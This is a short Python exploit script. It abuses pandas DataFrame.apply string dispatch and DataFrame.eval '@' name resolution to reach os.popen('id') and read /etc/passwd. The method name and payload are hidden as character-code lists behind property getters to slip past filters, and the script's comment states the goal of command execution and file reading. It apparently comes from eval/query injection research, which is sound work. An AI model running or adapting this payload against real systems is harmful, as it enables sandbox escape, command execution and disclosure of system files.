# source: pandas DataFrame.apply(str) -> Apply.apply_str -> getattr(df, name)(*args, **kwargs) (pandas/core/apply.py); pandas eval "@local" resolution from the caller frame (pandas/core/computation/scope.py); pandas eval/query injection reports
# family: pandas string dispatch: method name and its args from @property values -> DataFrame.eval by name, python engine, "@" names resolve in pandas.core.apply's globals (inspect)
# goal: os.popen('id') and builtins.open('/etc/passwd') via inspect.sys.modules
import pandas as pd


def spell(codes):
    return "".join(chr(c) for c in codes)


class Job:
    @property
    def how(self):
        return spell([101, 118, 97, 108])

    @property
    def code(self):
        return (spell([64, 105, 110, 115, 112, 101, 99, 116, 46, 115, 121, 115, 46, 109, 111, 100, 117, 108, 101, 115, 91, 39, 112, 97, 110, 100, 97, 115, 39, 93, 46, 103, 101, 116, 95, 100, 117, 109, 109, 105, 101, 115, 40, 91, 64, 105, 110, 115, 112, 101, 99, 116, 46, 115, 121, 115, 46, 109, 111, 100, 117, 108, 101, 115, 91, 39, 111, 115, 39, 93, 46, 112, 111, 112, 101, 110, 40, 39, 105, 100, 39, 41, 46, 114, 101, 97, 100, 40, 41, 44, 32, 64, 105, 110, 115, 112, 101, 99, 116, 46, 115, 121, 115, 46, 109, 111, 100, 117, 108, 101, 115, 91, 39, 98, 117, 105, 108, 116, 105, 110, 115, 39, 93, 46, 111, 112, 101, 110, 40, 39, 47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100, 39, 41, 46, 114, 101, 97, 100, 40, 41, 93, 41]),)

    def run(self):
        df = pd.DataFrame({"a": [1, 2]})
        out = df.apply(self.how, args=self.code)
        for item in out.columns:
            print(item)


Job().run()
